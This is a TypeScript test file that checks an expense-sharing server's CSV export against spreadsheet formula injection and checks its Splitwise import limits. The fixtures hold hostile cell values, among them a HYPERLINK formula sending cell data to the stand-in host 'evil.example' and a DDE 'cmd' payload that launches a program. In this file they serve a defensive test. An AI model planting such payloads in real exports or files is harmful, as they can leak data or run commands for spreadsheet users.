// The CSV files the server writes and reads are safe (issue #30): no cell of a group export opens
// as a formula in a spreadsheet, while amounts stay numbers and the export imports back with the
// texts unchanged (finding 1); a Splitwise import is refused with a 400 naming the limit when the
// file has too many person columns or rows, before any heavy work (finding 4).
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { TestUser } from './support/fixtures.js';
import { multipart } from './support/ledger.js';
import { caller, makeUsers } from './support/social.js';
import type { TestContext } from './support/test-app.js';
import { createTestContext, errorBody } from './support/test-app.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(async () => {
  await ctx.close();
});
beforeEach(async () => {
  await ctx.reset();
});

function upload(who: TestUser, url: string, csv: string, fields: Record<string, string> = {}) {
  const body = multipart([
    ...Object.entries(fields).map(([name, value]) => ({ name, value })),
    { name: 'file', value: csv, filename: 'export.csv', contentType: 'text/csv' },
  ]);
  return ctx.app.inject({
    method: 'POST',
    url,
    headers: { ...who.auth, ...body.headers },
    payload: body.payload,
  });
}

/** A cell a spreadsheet would open as a formula. */
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?[0-9]+(\.[0-9]+)?$/;

describe('group CSV export against formula injection', () => {
  it('quotes every text cell that would open as a formula, keeps amounts numbers, and imports back unchanged', async () => {
    const [ann, bea] = await makeUsers(ctx, 'Ann', 'Bea');
    const as = caller(ctx, ann);
    const g = await as('POST', '/api/groups', { name: 'Trip', defaultCurrency: 'EUR' });
    expect(g.statusCode, g.body).toBe(201);
    const groupId = g.json<{ id: number }>().id;
    const evilName = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const guest = await as('POST', `/api/groups/${groupId}/guests`, { name: evilName });
    expect(guest.statusCode, guest.body).toBe(201);
    const guestId = guest
      .json<{ members: { id: number; name: string }[] }>()
      .members.find((m) => m.name === evilName)?.id;
    expect(guestId).toBeDefined();
    const hostile = [
      "=cmd|' /C calc'!A0",
      '+SUM(1+1)',
      '@SUM(A1)',
      '-2+3',
      "'=already quoted",
      'Dinner = good',
    ];
    for (const description of hostile) {
      const res = await as('POST', '/api/expenses', {
        groupId,
        description,
        amount: 12.5,
        currency: 'EUR',
        date: '2026-01-05',
        splitType: 'EQUAL',
        payers: [{ userId: ann.id, amountPaid: 12.5 }],
        splits: [{ userId: ann.id }, { userId: guestId }],
      });
      expect(res.statusCode, res.body).toBe(201);
    }
    // A payment's description names its people: "=HYPERLINK(…) paid Ann".
    const pay = await as('POST', '/api/payments', {
      groupId,
      paidByUserId: guestId,
      paidToUserId: ann.id,
      amount: 1,
      currency: 'EUR',
      date: '2026-01-06',
    });
    expect(pay.statusCode, pay.body).toBe(201);
    void bea;

    const res = await as('GET', `/api/groups/${groupId}/export.csv`);
    expect(res.statusCode, res.body).toBe(200);
    const records = parse(res.body, { skip_empty_lines: true }) as string[][];
    const [header = [], ...rows] = records;
    expect(header).toEqual([
      'Date',
      'Description',
      'Category',
      'Cost',
      'Currency',
      'Original cost',
      'Original currency',
      'Ann',
      `'${evilName}`,
    ]);
    for (const r of rows) {
      const [date = '', description = '', category = '', cost = '', currency = ''] = r;
      const [originalCost = '', originalCurrency = '', ...people] = r.slice(5);
      for (const text of [date, description, category, currency, originalCurrency]) {
        expect(text, r.join(',')).not.toMatch(FORMULA);
      }
      // Nothing was converted: the original-cost cells are empty.
      expect([originalCost, originalCurrency]).toEqual(['', '']);
      if (description !== 'Total balance') expect(cost).toMatch(NUMBER);
      // Amounts stay numbers, negative ones included.
      for (const v of people) expect(v, r.join(',')).toMatch(NUMBER);
    }
    expect(rows.some((r) => r.slice(7).some((v) => v.startsWith('-')))).toBe(true);
    const descriptions = rows.map((r) => r[1]);
    expect(descriptions).toEqual(
      expect.arrayContaining([
        "'=cmd|' /C calc'!A0",
        "'+SUM(1+1)",
        "'@SUM(A1)",
        "'-2+3",
        "''=already quoted",
        'Dinner = good',
        `'${evilName} paid Ann`,
      ]),
    );
    // Neutralised cells are quoted in the file, as OWASP advises.
    expect(res.body).toContain(`"'+SUM(1+1)"`);
    expect(res.body).toContain(`"'@SUM(A1)"`);

    // Our own export imports back with every text as it was.
    const pv = await upload(ann, '/api/imports/splitwise/preview', res.body);
    expect(pv.statusCode, pv.body).toBe(200);
    const columns = pv.json<{ columns: { name: string; proposed: unknown }[] }>().columns;
    expect(columns.map((c) => c.name)).toEqual(['Ann', evilName]);
    const imp = await upload(ann, '/api/imports/splitwise', res.body, {
      groupName: 'Back again',
      mapping: JSON.stringify(columns.map((c) => c.proposed)),
    });
    expect(imp.statusCode, imp.body).toBe(201);
    const newGroup = imp.json<{ group: { id: number; members: { name: string }[] } }>().group;
    expect(newGroup.members.map((m) => m.name)).toContain(evilName);
    const list = await as('GET', `/api/groups/${newGroup.id}/transactions`);
    expect(list.statusCode, list.body).toBe(200);
    const imported = JSON.stringify(list.json());
    for (const d of hostile) expect(imported).toContain(JSON.stringify(d));
  });
});

const HEADER = 'Date,Description,Category,Cost,Currency';
/** The limits as the user guide states them. */
const MAX_IMPORT_COLUMNS = 200;
const MAX_IMPORT_ROWS = 20_000;

describe('Splitwise import limits', () => {
  it('refuses a file with too many person columns with a 400 naming the limit (preview and import)', async () => {
    const [ann] = await makeUsers(ctx, 'Ann');
    const people = Array.from({ length: MAX_IMPORT_COLUMNS + 1 }, (_, i) => `P${String(i)}`);
    const row = ['2024-01-01', 'X', 'General', '1.00', 'EUR', '1.00', '-1.00'];
    const file = `${HEADER},${people.join(',')}\n${[...row, ...people.slice(2).map(() => '0')].join(',')}\n`;
    for (const url of ['/api/imports/splitwise/preview', '/api/imports/splitwise']) {
      const res = await upload(ann, url, file, {
        groupName: 'Many',
        mapping: JSON.stringify(people.map((name) => ({ kind: 'guest', name }))),
      });
      expect(res.statusCode, `${url} ${res.body.slice(0, 300)}`).toBe(400);
      expect(errorBody(res).message).toBe(
        `Line 1: a file may have at most 200 person columns; this one has ${String(people.length)}.`,
      );
    }
    // At the limit it is read.
    const ok = people.slice(0, MAX_IMPORT_COLUMNS);
    const fine = `${HEADER},${ok.join(',')}\n${[...row, ...ok.slice(2).map(() => '0')].join(',')}\n`;
    const res = await upload(ann, '/api/imports/splitwise/preview', fine);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  });

  it('refuses a file with too many rows with a 400 naming the limit (preview and import), before reading a row', async () => {
    const [ann] = await makeUsers(ctx, 'Ann');
    const good = '2024-01-01,X,General,1.00,EUR,1.00,-1.00\n';
    // Rows that do not balance: the limit is still what the answer names (checked first).
    const bad = '2024-01-01,X,General,1.00,EUR,1.00,-0.99\n';
    for (const line of [good, bad]) {
      const file = `${HEADER},Ann,Bob\n${line.repeat(MAX_IMPORT_ROWS + 1)}`;
      for (const url of ['/api/imports/splitwise/preview', '/api/imports/splitwise']) {
        const res = await upload(ann, url, file, {
          groupName: 'Long',
          mapping: JSON.stringify([{ kind: 'me' }, { kind: 'guest', name: 'Bob' }]),
        });
        expect(res.statusCode, `${url} ${res.body.slice(0, 300)}`).toBe(400);
        expect(errorBody(res).message).toBe(
          `Line ${String(MAX_IMPORT_ROWS + 2)}: a file may hold at most 20,000 expenses and payments.`,
        );
      }
    }
  });
});
